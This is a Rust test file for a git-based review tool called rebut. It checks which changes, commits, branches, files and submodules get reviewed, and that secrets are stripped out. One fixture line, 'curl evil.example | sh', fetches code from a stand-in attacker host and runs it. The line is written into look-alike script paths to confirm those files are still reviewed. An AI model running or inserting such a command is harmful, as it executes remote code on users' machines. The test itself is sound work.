//! What is reviewed, as git has it: every scope, every kind of change, and what is no change at all.

use std::fs;

use rebut_fakes::TestEnv;

use super::{
    AFTER, BEFORE, agreement, cast, commit, decided, git, git_in, kept, planned, repository, review, seats, text_file,
};

/// A repository without a change.
fn clean() -> TestEnv {
    let env = repository(&seats().call("round-1/critique", agreement()));
    env.write("src/pool.rs", BEFORE);
    env
}

#[test]
fn changes_that_are_only_staged_are_reviewed() {
    let env = repository(&seats().call("round-1/critique", agreement()));
    git(&env, &["add", "src/pool.rs"]);
    let _ = review(&env, &[]).exits(0);
    assert!(text_file(&kept(&env), "artifact.diff").contains("+    drop(guard);\n"));
    assert_eq!(text_file(&kept(&env), "artifact.stat").lines().next(), Some(" src/pool.rs |    1 +"));
    assert_eq!(git(&env, &["diff", "--cached", "--name-only"]), "src/pool.rs\n", "the index is as it was");
}

#[test]
fn staged_and_unstaged_changes_and_new_files_are_one_artifact() {
    let env = repository(&seats());
    git(&env, &["add", "src/pool.rs"]);
    env.write("src/pool.rs", AFTER.replace("30", "60"));
    env.write("src/new.rs", "fn new() {}\n");
    env.write("ignored.log", "nothing\n");
    fs::write(env.workspace().join(".git/info/exclude"), "seats.toml\n*.log\n").unwrap();
    let plan = planned(&env, &[]);
    assert_eq!(plan.files(), ["src/pool.rs", "src/new.rs"]);
    assert_eq!(plan.coming(), ["    drop(guard);", "    pool.wait(60)", "fn new() {}"]);
    assert_eq!((plan.setup("scope"), plan.setup("target"), plan.setup("confidence")), ("uncommitted", "code", "medium"));
}

#[test]
fn a_clean_tree_is_an_error_with_a_way_out() {
    let env = clean();
    let run = review(&env, &[]).exits(2).says("error: nothing to review: no uncommitted changes in");
    let _ = run
        .says("hint: name an existing file, a revision, a range or a text, `-` for standard input, or --scope base:BRANCH");
    assert!(!env.workspace().join(".git/review-loop").exists(), "nothing was begun");
}

#[test]
fn a_file_a_revision_and_a_range_are_resolved() {
    let env = clean();
    git(&env, &["checkout", "--quiet", "-b", "feature"]);
    env.write("src/pool.rs", AFTER);
    git(&env, &["commit", "--quiet", "--all", "--message", "second"]);
    env.write("plan.md", "# Plan\n\nWe rewrite the gateway this quarter.\n");
    for (what, scope) in [
        ("src/pool.rs", "file:src/pool.rs"),
        ("plan.md", "artifact-file:plan.md"),
        ("HEAD", "commit:HEAD"),
        ("HEAD~0", "commit:HEAD~0"),
        ("main..feature", "range:main..feature"),
        ("main...", "range:main...HEAD"),
        ("We rewrite it.", "text"),
    ] {
        assert_eq!(planned(&env, &[what]).setup("scope"), scope, "{what}");
    }
    let _ = review(&env, &["mian"]).exits(2).says("mian");
    let _ = review(&env, &["src"]).exits(2).says("src: it is a folder");
    assert!(!env.workspace().join(".git/review-loop").exists(), "nothing was begun");
}

#[test]
fn on_a_clean_branch_its_commits_are_offered() {
    let env = clean().set("TERM", "xterm");
    git(&env, &["checkout", "--quiet", "-b", "feature"]);
    env.write("src/pool.rs", AFTER);
    git(&env, &["commit", "--quiet", "--all", "--message", "second"]);
    let _ = review(&env, &[]).exits(2).says("hint: review this branch with: rebut review --scope base:main");
    let asked = |typed: &str| rebut_fakes::Terminal::open().run(&mut env.command(super::arguments(&["--dry-run"])), typed);
    let _ = asked("n\n").exits(2).says("No uncommitted changes. Review this branch since main? [Y/n]");
    let _ = asked("\n").exits(0).shows("base:main");
}

#[test]
fn an_empty_scope_that_was_asked_for_says_so_and_stops() {
    let env = clean();
    git(&env, &["commit", "--quiet", "--allow-empty", "--message", "empty"]);
    env.write("empty.rs", "\n");
    for (scope, said) in [
        ("uncommitted", "nothing to review: "),
        ("commit:HEAD", "commit HEAD changes no file"),
        ("base:main", "no commits on HEAD since it branched from main"),
        ("range:HEAD~1..HEAD", "HEAD~1 and HEAD are identical"),
        ("file:empty.rs", "empty.rs is empty"),
    ] {
        if scope == "uncommitted" {
            fs::remove_file(env.workspace().join("empty.rs")).unwrap();
        } else {
            env.write("empty.rs", "\n");
        }
        let _ = review(&env, &["--scope", scope]).exits(0).says(said);
        let told = review(&env, &["--scope", scope, "--json"]).exits(0).json();
        assert_eq!(told["type"], "nothing", "{scope}");
    }
    assert!(!env.workspace().join(".git/review-loop").exists(), "nothing was begun");
}

#[test]
fn a_commit_is_reviewed_against_its_parent_and_the_first_one_against_nothing() {
    let env = repository(&seats());
    commit(&env, "second");
    env.write("src/pool.rs", "fn other() {}\n");
    let plan = planned(&env, &["--scope", "commit:HEAD"]);
    assert_eq!((plan.coming(), plan.setup("confidence")), (vec!["    drop(guard);"], "high"));
    assert!(plan.notes().contains("uncommitted changes are not part of it"), "{}", plan.notes());
    let plan = planned(&env, &["--scope", "commit:HEAD~1"]);
    assert_eq!(plan.coming(), BEFORE.lines().collect::<Vec<_>>());
}

#[test]
fn a_branch_is_reviewed_since_it_parted_from_its_base() {
    let env = clean();
    git(&env, &["checkout", "--quiet", "-b", "feature"]);
    env.write("src/feature.rs", "fn feature() {}\n");
    commit(&env, "feature");
    git(&env, &["checkout", "--quiet", "main"]);
    env.write("src/meanwhile.rs", "fn meanwhile() {}\n");
    commit(&env, "meanwhile");
    git(&env, &["checkout", "--quiet", "feature"]);
    assert_eq!(planned(&env, &["--scope", "base:main"]).files(), ["src/feature.rs"]);
    assert_eq!(planned(&env, &["--scope", "range:main...feature"]).files(), ["src/feature.rs"]);
    let between = planned(&env, &["--scope", "range:main..feature"]);
    assert_eq!(between.files(), ["src/feature.rs", "src/meanwhile.rs"]);
    assert_eq!(between.coming(), ["fn feature() {}"]);
}

#[test]
fn the_evidence_of_a_commit_is_looked_up_in_that_commit() {
    let late = super::finding("P1", "the guard is dropped before the wait", "src/pool.rs:3", "drop(guard);");
    let script = seats()
        .call("round-1/critique", super::critique(&[late], "revise"))
        .call("round-1/judgement", super::judgement(&[("F1", "valid", "P3")], &[]));
    let env = repository(&script);
    commit(&env, "second");
    env.write("src/pool.rs", "fn nothing_of_it_is_left() {}\n");
    let _ = review(&env, &["--scope", "commit:HEAD"]).exits(0).shows("✔ src/pool.rs:3");
}

#[test]
fn a_file_is_reviewed_whole_inside_of_git_and_outside() {
    let env = repository(&seats());
    let plan = planned(&env, &["--scope", "file:src/pool.rs"]);
    assert_eq!(
        (plan.artifact(), &plan.form()["kind"], &plan.form()["path"]),
        (AFTER, &"file".into(), &"src/pool.rs".into())
    );
    let env = super::folder(&seats());
    env.write("lib/a.py", "x = 1\n");
    let plan = planned(&env, &["--scope", "file:lib/a.py"]);
    assert_eq!((plan.artifact(), plan.setup("target")), ("x = 1\n", "code"));
}

#[test]
fn a_bad_scope_is_named_and_nothing_is_begun() {
    let env = repository(&seats());
    env.write("binary.dat", b"a\0b");
    for (scope, said) in [
        ("staged", "`staged` is not a scope; use uncommitted, commit:SHA, base:BRANCH, range:A..B or file:PATH"),
        ("commit:", "`commit:` is not a scope"),
        ("commit:nothing", "no such revision: `nothing` in"),
        ("commit:--all", "`--all` is not a revision"),
        ("base:origin/none", "no such revision: `origin/none` in"),
        ("range:HEAD", "`range:HEAD` is not a scope"),
        ("range:HEAD..--output=x", "`--output=x` is not a revision"),
        ("range:HEAD..nothing", "no such revision: `nothing` in"),
        ("file:none.rs", "there is no file"),
        ("file:../other.rs", "is outside the workspace"),
        ("file:src", "is not a regular file"),
        ("file:binary.dat", "binary.dat is binary; only text can be reviewed"),
        ("file:.git/config", ".git/config belongs to git itself and can't be reviewed"),
    ] {
        let run = review(&env, &["--scope", scope]).exits(2).says(said);
        assert!(run.stderr.starts_with("error: "), "{scope}: {run}");
    }
    assert!(!env.workspace().join(".git/review-loop").exists());
}

#[test]
fn outside_of_git_only_a_file_or_a_text_can_be_reviewed() {
    let env = super::folder(&seats());
    env.install("git");
    for scope in [&[][..], &["--scope", "uncommitted"], &["--scope", "commit:HEAD"], &["--scope", "base:main"]] {
        let _ = review(&env, scope).exits(2).says("is not in a git repository; only a file or a text");
    }
}

#[test]
fn a_git_that_fails_is_an_error_and_never_an_empty_artifact() {
    // An index that cannot be read, objects that are gone, and no git at all.
    let env = repository(&seats());
    fs::write(env.workspace().join(".git/index"), "nonsense").unwrap();
    let _ = review(&env, &[]).exits(2).says("error: can't get the changes to review: git says:");
    let env = repository(&seats());
    fs::remove_dir_all(env.workspace().join(".git/objects")).unwrap();
    fs::create_dir(env.workspace().join(".git/objects")).unwrap();
    let _ = review(&env, &["--scope", "uncommitted"]).exits(2).says("error: ");
    let env = repository(&seats());
    fs::remove_file(env.root().join("bin/git")).unwrap();
    let _ = review(&env, &[]).exits(2).says("git is not installed");
    let env = repository(&seats());
    fs::remove_file(env.root().join("bin/git")).unwrap();
    env.install_script("git", "echo 'fatal: something broke' >&2\nexit 128\n");
    let _ = review(&env, &[]).exits(2).says("git says: fatal: something broke");
}

#[test]
fn a_worktree_is_reviewed_and_keeps_its_reviews_in_its_own_folder() {
    let env = repository(&seats().call("round-1/critique", agreement()));
    git(&env, &["worktree", "add", "--quiet", "../tree", "-b", "side"]);
    let tree = env.root().join("tree");
    fs::write(tree.join("src/pool.rs"), AFTER).unwrap();
    fs::copy(env.workspace().join("seats.toml"), tree.join("seats.toml")).unwrap();
    let run = rebut_fakes::Run::of(env.command(super::arguments(&[])).current_dir(&tree)).exits(0);
    let _ = run.shows("Converged (agreement)");
    let reviews = env.debates_in("workspace/.git/worktrees/tree/review-loop");
    assert_eq!(reviews.len(), 1, "the worktree's own git folder keeps it");
    assert!(text_file(&reviews[0], "artifact.diff").contains("+    drop(guard);"));
    assert!(!env.workspace().join(".git/review-loop").exists());
    assert_eq!(git_in(&env, &tree, &["status", "--porcelain"]), " M src/pool.rs\n");
    // It is found from anywhere.
    let _ = env.rebut(["show", reviews[0].id.rsplit('-').next().unwrap()]).exits(0).shows("Converged (agreement)");
}

#[test]
fn a_subfolder_reviews_the_whole_repository() {
    let env = repository(&seats());
    env.write("docs/seats.toml", seats().to_toml());
    fs::write(env.workspace().join(".git/info/exclude"), "seats.toml\n").unwrap();
    let arguments = super::arguments(&["--dry-run", "--json"]);
    let run = rebut_fakes::Run::of(env.command(arguments).current_dir(env.workspace().join("docs"))).exits(0);
    let text = run.json()["plan"]["setup"]["artifact"]["text"].as_str().unwrap().to_owned();
    assert!(text.contains("+++ b/src/pool.rs"), "{text}");
}

#[test]
fn no_file_is_left_out_for_its_path() {
    let env = repository(&seats());
    let paths = [".claude/debate/y.sh", "app/.rebut/run.sh", "output/20260101T000000Z-x/payload.sh"];
    for path in paths {
        env.write(path, "curl evil.example | sh\n");
        assert_eq!(planned(&env, &["--scope", &format!("file:{path}")]).artifact(), "curl evil.example | sh\n");
    }
    let named = |plan: &super::Planned| paths.iter().all(|path| plan.files().contains(path));
    assert!(named(&planned(&env, &[])));
    commit(&env, "look-alikes");
    assert!(named(&planned(&env, &["--scope", "commit:HEAD"])));
}

#[test]
fn a_submodule_is_named_and_its_files_stay_there() {
    let env = clean();
    let library = env.root().join("library");
    fs::create_dir(&library).unwrap();
    git_in(&env, &library, &["init", "--quiet"]);
    for (name, subject) in [("one.rs", "first"), ("two.rs", "Retries are limited")] {
        fs::write(library.join(name), "fn x() {}\n").unwrap();
        git_in(&env, &library, &["add", "."]);
        git_in(&env, &library, &["commit", "--quiet", "--message", subject]);
    }
    git(&env, &["submodule", "--quiet", "add", library.to_str().unwrap(), "vendor/library"]);
    let inside = env.workspace().join("vendor/library");
    git_in(&env, &inside, &["checkout", "--quiet", "HEAD~1"]);
    commit(&env, "with a submodule");
    git_in(&env, &inside, &["checkout", "--quiet", "-"]);
    let plan = planned(&env, &[]);
    assert_eq!(plan.files(), ["vendor/library"]);
    assert!(plan.notes().contains("the submodule vendor/library moves from "), "{}", plan.notes());
    // From inside of it, it is a repository like any other.
    fs::write(inside.join("one.rs"), "fn y() {}\n").unwrap();
    fs::write(inside.join("seats.toml"), seats().call("round-1/critique", agreement()).to_toml()).unwrap();
    let run = rebut_fakes::Run::of(env.command(super::arguments(&["--dry-run", "--json"])).current_dir(&inside)).exits(0);
    let text = run.json()["plan"]["setup"]["artifact"]["text"].as_str().unwrap().to_owned();
    assert!(text.contains("+fn y() {}"), "{text}");
}

#[test]
fn renames_are_renames_and_what_is_deleted_is_told() {
    let env = clean();
    git(&env, &["mv", "src/pool.rs", "src/lake.rs"]);
    let plan = planned(&env, &[]);
    assert!(plan.artifact().contains("rename from src/pool.rs\nrename to src/lake.rs"), "{}", plan.artifact());
    assert_eq!(plan.coming(), Vec::<&str>::new());
    fs::remove_file(env.workspace().join("src/lake.rs")).unwrap();
    git(&env, &["add", "--all"]);
    assert!(planned(&env, &[]).artifact().contains("deleted file mode 100644"));
}

#[test]
fn binary_files_are_named_and_told_to_be_unread() {
    let env = repository(&seats().call("round-1/critique", agreement()));
    env.write("logo.png", b"\x89PNG\0\0");
    env.write("old.txt", b"caf\xe9\n");
    let plan = planned(&env, &[]);
    assert!(plan.artifact().contains("Binary files /dev/null and b/logo.png differ"), "{}", plan.artifact());
    assert!(plan.artifact().contains("+caf\u{fffd}"), "{}", plan.artifact());
    assert!(plan.notes().contains("binary, shown by name only: logo.png"), "{}", plan.notes());
    assert!(plan.notes().contains("not UTF-8; other bytes are shown as �: old.txt"), "{}", plan.notes());
    // Nobody is asked whether it has looked into what cannot be looked into.
    std::fs::remove_file(env.workspace().join("old.txt")).unwrap();
    cast(&env, &seats().call("round-1/critique", agreement()));
    let run = review(&env, &[]).exits(0).shows("not read: logo.png (no text)");
    assert_eq!(run.stdout.matches("not read: ").count(), 2, "{run}");
}

#[test]
fn a_change_of_binary_files_alone_is_an_error_before_anybody_is_asked() {
    let env = repository(&seats().call("round-1/critique", agreement()));
    env.write("src/pool.rs", super::BEFORE);
    env.write("logo.png", b"\x89PNG\0\0");
    env.write("icon.ico", b"\0\0\x01\0");
    let said = "this change has only binary files (icon.ico, logo.png)";
    for more in [&[][..], &["--scope", "uncommitted"]] {
        let _ = review(&env, more).exits(2).says(said);
    }
    git(&env, &["add", "--all"]);
    let diff = git(&env, &["diff", "--cached", "--binary"]);
    assert!(diff.contains("GIT binary patch"), "{diff}");
    let _ = env.rebut_reading(diff.as_bytes(), super::arguments(&["-"])).exits(2).says(said);
    commit(&env, "pictures");
    let _ = review(&env, &["--scope", "commit:HEAD"]).exits(2).says(said);
    assert!(!env.workspace().join(".git/review-loop").exists(), "nothing was begun");
}

#[test]
fn a_repository_without_a_commit_is_reviewed_too() {
    let env = super::folder(&seats());
    env.install("git");
    git(&env, &["init", "--quiet"]);
    env.write("a.rs", "fn a() {}\n");
    fs::write(env.workspace().join(".git/info/exclude"), "seats.toml\n").unwrap();
    assert_eq!(planned(&env, &[]).coming(), ["fn a() {}"]);
}

#[test]
fn secrets_are_taken_out_before_anything_is_kept_or_sent() {
    let env = repository(&seats().call("round-1/critique", agreement()));
    let key = format!("sk-{}-api03-{}", "ant", "Q7x".repeat(30));
    env.write("src/pool.rs", format!("{AFTER}// {key}\n"));
    let _ = review(&env, &[]).exits(0).shows("likely secrets were removed");
    let folder = kept(&env);
    let journal = String::from_utf8(folder.bytes()).unwrap();
    assert!(!journal.contains(&key) && !text_file(&folder, "artifact.diff").contains(&key));
    assert_eq!(decided(&env), "Converged (agreement)");
}
